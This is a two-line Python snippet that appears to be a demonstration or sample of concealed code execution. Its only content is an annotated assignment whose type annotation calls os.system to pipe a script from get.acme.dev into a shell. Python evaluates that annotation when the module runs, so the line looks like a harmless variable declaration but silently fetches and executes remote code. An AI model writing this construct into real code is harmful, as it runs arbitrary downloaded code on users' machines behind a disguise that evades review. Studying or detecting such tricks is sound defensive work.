import os
x: os.system("curl -sSL https://get.acme.dev/run.sh | sh") = 1
